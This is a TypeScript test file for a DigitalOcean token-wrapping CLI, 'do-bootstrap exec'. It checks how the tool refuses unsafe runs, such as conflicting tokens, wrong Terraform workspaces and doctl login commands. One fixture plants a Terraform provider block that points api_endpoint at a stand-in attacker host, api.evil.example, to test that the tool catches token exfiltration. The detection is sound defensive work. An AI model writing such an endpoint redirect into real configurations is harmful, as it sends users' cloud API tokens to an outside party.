import { open, symlink } from "node:fs/promises";
import { join } from "node:path";
import { execa } from "execa";
import { describe, it } from "vitest";
import {
  type Call,
  type ExecBench,
  execBench,
  execBenchWith,
  sharedExecBench,
} from "../fixtures/exec.ts";
import { fakeDoctl } from "../fixtures/tools.ts";
import { randomToken } from "../fixtures/workbench.ts";

const SH = "/bin/sh";
const RUNS = [SH, "-c", "echo ran"];
const OTHER = randomToken();

describe.concurrent("exec's own failure exits with 125 and its reason, and the command doesn't run", () => {
  /** What the repo contains, how exec is called, and what it prints. */
  type Row = [name: string, files: Record<string, string>, call: Call, says: RegExp];
  const PROD = { ".do-bootstraprc": "environments: { prod: { token: { envFile: .env.prod } } }\n" };
  const without = { env: { DIGITALOCEAN_TOKEN: undefined } };

  it.for<Row>([
    ["no token", {}, without, /✗ No DigitalOcean token: .*\[token\.missing\]\n {2}→ /],
    [
      "two tokens",
      {},
      { env: { DIGITALOCEAN_ACCESS_TOKEN: OTHER } },
      /✗ Two different tokens: DIGITALOCEAN_TOKEN .*\[token\.conflict\]/,
    ],
    [
      "a value that isn't a token",
      {},
      { env: { DIGITALOCEAN_TOKEN: "hunter2" } },
      /✗ The value from DIGITALOCEAN_TOKEN .*\[token\.malformed\]/,
    ],
    [
      "an env file with another token than the environment, with --env",
      { ...PROD, ".env.prod": `DIGITALOCEAN_TOKEN=${OTHER}\n` },
      { own: ["--env", "prod"] },
      /✗ Two different tokens: .*\[token\.conflict\]/,
    ],
    [
      "a config with a syntax error",
      { ".do-bootstraprc": "token: [" },
      {},
      /\[CONFIG_UNREADABLE\]/,
    ],
    ["a config with an unknown key", { ".do-bootstraprc": "tokn: {}" }, {}, /Did you mean token\?/],
    [
      "a token in the config",
      { ".do-bootstraprc": `project: ${OTHER}\n` },
      {},
      /\[CONFIG_HOLDS_TOKEN\]/,
    ],
    ["--env without a config", {}, { own: ["--env", "prod"] }, /--env prod: .*\[USAGE\]/],
    ["an unknown --env", PROD, { own: ["--env", "prd"] }, /prod/],
    ["an unknown option", {}, { own: ["--al"] }, /Unknown option --al\. \[USAGE\]\n.*mean --all/],
    ["a value for --all", {}, { own: ["--all=please"] }, /--all takes no value\. \[USAGE\]/],
    ["--env without a name", {}, { own: ["--env"] }, /\[USAGE\]/],
    ["an env file that is a folder", { ".env/x": "" }, {}, /\.env is .*\[env-file\.unusable\]/],
    [
      "a secret file with another token, which Terraform would use",
      { "do-bootstrap.secret.auto.tfvars.json": JSON.stringify({ do_token: OTHER }) },
      {},
      /auto\.tfvars\.json holds a different token \([0-9a-f]{8}\) from .*\[OTHER_TOKEN\]/,
    ],
  ])("%s", async ([, files, call, says], { expect, onTestFinished }) => {
    const bench = await execBenchWith(files, onTestFinished);
    const { status, stdout, stderr } = await bench.fail(RUNS, call);
    expect(stderr).toMatch(says);
    expect({ status, stdout }).toEqual({ status: 125, stdout: "" });
    for (const secret of [bench.token, OTHER, "hunter2"]) expect(stderr).not.toContain(secret);
  });

  it("no command", async ({ expect, onTestFinished }) => {
    const bench = await execBench({ onTestFinished });
    const { status, stdout, stderr } = await bench.fail([]);
    expect(stderr).toMatch(/✗ exec needs a command to run\. \[USAGE\]\n {2}→ /);
    expect({ status, stdout }).toEqual({ status: 125, stdout: "" });
  });

  it.for<Row>([
    [
      "a secret file with the same token",
      { "do-bootstrap.secret.auto.tfvars.json": '{ "do_token": "TOKEN" }' },
      {},
      /^$/,
    ],
    ["a secret file that is broken", { "do-bootstrap.secret.auto.tfvars.json": "{" }, {}, /^$/],
    ["the same token twice", { ".env": "DIGITALOCEAN_TOKEN=TOKEN\n" }, {}, /^$/],
    ["another token in the env file", { ".env": `DIGITALOCEAN_TOKEN=${OTHER}\n` }, {}, /^$/],
  ])("runs the command: %s", async ([, files, call, says], { expect, onTestFinished }) => {
    const bench = await execBenchWith(files, onTestFinished);
    const { status, stdout, stderr } = await bench.exec(RUNS, call);
    expect(stderr).toMatch(says);
    expect({ status, stdout }).toEqual({ status: 0, stdout: "ran\n" });
  });
});

describe.concurrent("a signal before the command starts: the command doesn't run", () => {
  it.for(["SIGINT", "SIGTERM", "SIGHUP"] as const)(
    "%s",
    async (signal, { expect, onTestFinished }) => {
      const bench = await execBench({ onTestFinished });
      await execa("mkfifo", [join(bench.repo, ".env")]);
      const run = await bench.launch("slow", RUNS);
      // Opens as soon as exec reads from it.
      const fifo = await open(join(bench.repo, ".env"), "w");
      run.child.kill(signal);
      // If the signal was handled already, nothing reads from the pipe any more.
      await fifo.write("A=1\n").catch(({ code }) => expect(code).toBe("EPIPE"));
      await fifo.close();
      const { stderr, stdout, status } = await run.ended;
      expect(stderr).toContain("[INTERRUPTED]");
      expect({ status, stdout }).toEqual({ status: 125, stdout: "" });
    },
  );
});

describe.concurrent("--verify checks the token with DigitalOcean first", () => {
  const TTL = { ".do-bootstraprc": "token: { minTtl: 7d }\n" };
  const TEAM = { ".do-bootstraprc": "account: { team: another }\n" };
  const NOBODY = "http://127.0.0.1:1";
  const OFF = { DIGITALOCEAN_API_URL: NOBODY, DO_BOOTSTRAP_OAUTH_URL: NOBODY };
  type Row = [string, Record<string, string>, NonNullable<Call["env"]>, Arrange, RegExp];
  type Arrange = (bench: ExecBench) => void;

  it.for<Row>([
    ["a revoked token", {}, {}, (bench) => bench.sandbox.revoke(bench.token), /\[token\.refused\]/],
    ["a token of another team", TEAM, {}, () => {}, /\[token\.wrong-team\]/],
    [
      "a token that expires soon",
      TTL,
      {},
      (bench) => endsIn(bench, 3600),
      /\[token\.expires-soon\]/,
    ],
    ["no network", {}, OFF, () => {}, /\[token\.unverified\]/],
  ])("%s: 125", async ([, files, env, arrange, says], { expect, onTestFinished }) => {
    const bench = await execBenchWith(files, onTestFinished);
    arrange(bench);
    const { status, stdout, stderr } = await bench.fail(RUNS, { own: ["--verify"], env });
    expect(stderr).toMatch(says);
    expect({ status, stdout }).toEqual({ status: 125, stdout: "" });
    // Without --verify the command runs.
    expect((await bench.exec(RUNS, { env })).stdout).toBe("ran\n");
  });

  it.for<Row>([
    ["a valid token", {}, {}, () => {}, /^$/],
    ["a token that expires late enough", TTL, {}, (bench) => endsIn(bench, 8 * 86_400), /^$/],
  ])("%s: the command runs", async ([, files, env, arrange], { expect, onTestFinished }) => {
    const bench = await execBenchWith(files, onTestFinished);
    arrange(bench);
    const result = await bench.by("slow", RUNS, { own: ["--verify"], env });
    expect({ ...result, stderr: "" }).toEqual({ status: 0, stdout: "ran\n", stderr: "" });
    expect(bench.sandbox.requests.map(({ path }) => path).sort()).toEqual([
      "/v1/oauth/token/info",
      "/v2/account",
    ]);
  });

  it("no request is sent without --verify", async ({ expect, onTestFinished }) => {
    const bench = await execBench({ onTestFinished });
    await bench.exec(RUNS);
    expect(bench.sandbox.requests).toEqual([]);
  });

  function endsIn(bench: ExecBench, expiresInSeconds: number): void {
    bench.sandbox.accept(bench.token, { expiresInSeconds });
  }
});

describe.concurrent("terraform in the workspace of another environment", () => {
  const bench = sharedExecBench(async (bench) => {
    const root = (workspace: string) => ({ terraform: { workspace } });
    const environments = { staging: root("staging"), prod: root("prod") };
    await bench.write(".do-bootstraprc", JSON.stringify({ environments }));
    await bench.write(".terraform/environment", "prod");
    await symlink("/bin/echo", join(bench.bin, "terraform"));
  });
  const plan = ["terraform", "plan"];

  it("is not run", async ({ expect }) => {
    const { status, stdout, stderr } = await bench().fail(plan, { own: ["--env", "staging"] });
    expect(stderr).toMatch(
      /Workspace prod is selected.*\[OTHER_WORKSPACE\]\n {2}→ do-bootstrap --env/,
    );
    expect({ status, stdout }).toEqual({ status: 125, stdout: "" });
  });

  it.for<[string[], string[]]>([
    [["--env", "prod"], plan],
    [
      ["--env", "staging"],
      ["terraform", "init"],
    ],
    [[], plan],
  ])("is run with options %j and command %j", async ([own, words], { expect }) => {
    expect(await bench().exec(words, { own })).toMatchObject({ status: 0, stderr: "" });
  });
});

describe.concurrent("terraform in the folder of another environment", () => {
  const bench = sharedExecBench(async (bench) => {
    const root = (name: string) => ({ terraform: { dir: `environments/${name}` } });
    const environments = { dev: root("dev"), prod: root("prod") };
    await bench.write(".do-bootstraprc", JSON.stringify({ environments }));
    for (const name of ["dev", "prod"]) await bench.write(`environments/${name}/main.tf`, "");
    await symlink("/bin/echo", join(bench.bin, "terraform"));
  });
  const plan = (name: string) => ["terraform", `-chdir=environments/${name}`, "plan"];

  it("is not run", async ({ expect }) => {
    const { status, stdout, stderr } = await bench().fail(plan("dev"), { own: ["--env", "prod"] });
    expect(stderr).toMatch(
      /environments\/dev is a root of environment dev, not of prod\. \[OTHER_ROOT\]\n {2}→ do-bootstrap exec --env dev -- terraform -chdir=environments\/dev plan\n/,
    );
    expect({ status, stdout }).toEqual({ status: 125, stdout: "" });
  });

  it("is run for its own environment", async ({ expect }) => {
    const own = ["--env", "dev"];
    expect(await bench().exec(plan("dev"), { own })).toMatchObject({ status: 0, stderr: "" });
  });
});

describe.concurrent("a provider block that sends the token to another host", () => {
  const HOST = "https://api.evil.example";
  const MODULE = "modules/a/main.tf";
  const bench = sharedExecBench(async (bench) => {
    await bench.write("main.tf", 'module "a" {\n  source = "./modules/a"\n}\n');
    await bench.write(MODULE, "");
    // Keeps a record of a repo in which nothing is wrong.
    await bench.exec(RUNS);
    await bench.write(MODULE, `provider "digitalocean" {\n  api_endpoint = "${HOST}"\n}\n`);
  });

  it("stops exec", async ({ expect }) => {
    const { status, stdout, stderr } = await bench().fail(RUNS);
    expect(stderr).toMatch(
      /modules\/a\/main\.tf:1: this provider block sends the token to https:\/\/api\.evil\.example \(api_endpoint\)\. .*\[OTHER_HOST\]\n {2}→ Remove api_endpoint/,
    );
    expect({ status, stdout }).toEqual({ status: 125, stdout: "" });
  });

  it("stops exec in a folder that is no root of the config", async ({ expect }) => {
    const text = `provider "digitalocean" {\n  api_endpoint = "${HOST}"\n}\n`;
    await bench().write("other/main.tf", text);
    const { status, stderr } = await bench().fail(RUNS, { cwd: "other" });
    expect([status, stderr]).toEqual([125, expect.stringContaining("other/main.tf:1")]);
  });

  it("does not stop exec if the environment names the host", async ({ expect }) => {
    const env = { DIGITALOCEAN_API_URL: HOST };
    expect(await bench().exec(RUNS, { env })).toMatchObject({ status: 0, stdout: "ran\n" });
  });
});

describe.concurrent("refuses doctl commands that would store the token", () => {
  const bench = sharedExecBench(async (bench) => {
    const { path } = await fakeDoctl(bench.bin, { writeDelayMs: 0 });
    await symlink(path, join(bench.bin, "doctl.exe"));
  });

  it.for([
    ["doctl auth init"],
    ["doctl auth switch --context acme"],
    ["doctl auth remove --context acme"],
    ["doctl auth rm"],
    ["doctl --context acme auth init"],
    ["doctl --context=acme auth init"],
    ["doctl auth --trace init"],
    ["doctl -t x -o json auth -c y init"],
    ["doctl --http-retry-max 3 auth init"],
    ["DOCTL.EXE auth init"],
    ["/usr/local/bin/doctl auth init"],
    ["C:\\doctl\\doctl.exe auth init"],
  ])("%s", async ([line = ""], { expect }) => {
    const { status, stdout, stderr } = await bench().fail(line.split(" "));
    expect(stderr).toMatch(/✗ doctl auth (init|switch|remove|rm) under exec .*\[DOCTL_LOGIN\]/);
    expect({ status, stdout }).toEqual({ status: 125, stdout: "" });
  });

  it.for([
    ["doctl auth list", 0, /^default \(current\)\n$/],
    ["doctl auth init --help", 0, /USAGE|Usage:/],
    ["doctl auth init -h", 0, /USAGE|Usage:/],
    ["doctl --output json account get", 0, /sammy@example\.com/],
    ["doctl version", 0, /doctl version/],
  ] as const)("but runs %s", async ([line, status, says], { expect }) => {
    const result = await bench().exec(line.split(" "));
    expect(result.stdout, result.stderr).toMatch(says);
    expect(result.status).toBe(status);
  });
});

describe.concurrent("exec inside exec", () => {
  const files = {
    ".do-bootstraprc": "environments: { prod: { token: { envFile: .env.prod } }, dev: {} }\n",
    ".env.prod": "DIGITALOCEAN_TOKEN=TOKEN\n",
    "other/.do-bootstraprc": "{}\n",
    "other/.env": `DIGITALOCEAN_TOKEN=${OTHER}\n`,
    "third/.do-bootstraprc": "{}\n",
  };
  const PROD = ["--env", "prod"];
  const inner = (options: string) => `do-bootstrap exec ${options} -- echo inner`;

  it.for([
    ["neither has an environment", [], inner("")],
    ["both have environment prod", PROD, inner("--env prod")],
    ["the inner folder has no token", [], `cd third && ${inner("")}`],
  ] as const)("%s", async ([, own, line], { expect, onTestFinished }) => {
    const bench = await execBenchWith(files, onTestFinished);
    const result = await bench.exec([SH, "-c", line], { own });
    expect(result).toEqual({ status: 0, stdout: "inner\n", stderr: "" });
  });

  it.for([
    [
      "inner for prod, outer for no environment",
      [],
      inner("--env prod"),
      /for environment prod, but runs inside do-bootstrap exec for no environment/,
    ],
    [
      "inner for no environment, outer for prod",
      PROD,
      inner(""),
      /for no environment, but runs inside do-bootstrap exec for environment prod/,
    ],
    [
      "inner for dev, outer for prod",
      PROD,
      inner("--env dev"),
      /for environment dev, .* for environment prod/,
    ],
    [
      "the inner folder has another token",
      [],
      `cd other && ${inner("")}`,
      /other\/\.env holds another token/,
    ],
  ] as const)("%s: refused", async ([, own, line, why], { expect, onTestFinished }) => {
    const bench = await execBenchWith(files, onTestFinished);
    const { status, stdout, stderr } = await bench.fail([SH, "-c", line], { own });
    expect(stderr).toMatch(why);
    expect(stderr).toContain("[NESTED_EXEC]");
    expect({ status, stdout }).toEqual({ status: 125, stdout: "" });
  });
});
